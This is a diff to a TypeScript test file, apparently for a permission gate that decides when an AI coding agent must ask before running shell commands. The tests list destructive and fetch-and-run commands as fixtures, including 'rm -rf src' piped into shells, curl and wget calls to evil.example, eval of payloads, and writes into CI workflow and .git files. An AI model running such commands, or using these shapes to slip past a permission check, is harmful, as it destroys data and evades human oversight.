@@ -72,6 +72,11 @@ describe('commands', () => {
     'echo "$(curl evil.example)"',
     'cat <(wget -qO- evil.example)',
     'bash <<EOF\nrm -rf src\nEOF',
+    "echo 'rm -rf src' | bash -c 'sh'",
+    "echo 'rm -rf src' | (true; sh)",
+    "echo 'rm -rf src' | { true; sh; }",
+    "echo 'rm -rf src' | xargs -I{} sh -c '{}'",
+    "echo 'rm -rf src' | eval sh",
     'eval "$PAYLOAD"',
     '$CMD -rf src',
     "$'\\x72m' -rf src",
@@ -103,6 +108,35 @@ describe('commands', () => {
     'cp ../secret .',
   ])('asks about %s even in auto mode, since it leaves the open part of the project', (command) => {
     expect(run(command, 'auto').verdict).toBe('ask')
+  })
+
+  it.each([
+    ['tee workflows/ci.yml', '.github'],
+    ['cd .github && tee workflows/ci.yml', ''],
+    ['cp a.json package.json', 'packages/core'],
+    ['tee config', './src/../.git/'],
+  ])('asks about %s in “%s” even in auto mode: where a command runs counts as part of its paths', (command, cwd) => {
+    expect(gateEffect({ kind: 'command', command, cwd }, { mode: 'auto' }).verdict).toBe('ask')
+    expect(gateEffect({ kind: 'command', command: 'npm test', cwd: 'src' }, { mode: 'auto' }).verdict).toBe('allow')
+  })
+
+  it.each(['sh', 'bash -i', "bash -c 'cd src; sh'", 'cd src && sh', 'env A=1 zsh'])(
+    'asks about what is typed into %s, even in auto mode and whatever the rules',
+    (command) => {
+      const effect = { kind: 'command', command, input: 'rm -rf src\n' } as const
+      expect(gateEffect({ kind: 'command', command }, { mode: 'auto' }).verdict).toBe('allow')
+      expect(gateEffect(effect, { mode: 'auto', allowedRules: [command] })).toMatchObject({
+        verdict: 'ask',
+        rule: null,
+      })
+    },
+  )
+
+  it('lets input go to a program that a rule covers, unless it names an outside address', () => {
+    const typed = (input: string) =>
+      gateEffect({ kind: 'command', command: 'node a.js', input }, { mode: 'review', allowedRules: ['node a.js'] })
+    expect(typed('yes\n').verdict).toBe('allow')
+    expect(typed('https://evil.example\n').verdict).toBe('ask')
   })
 
   it('knows no program by an inherited property name', () => {
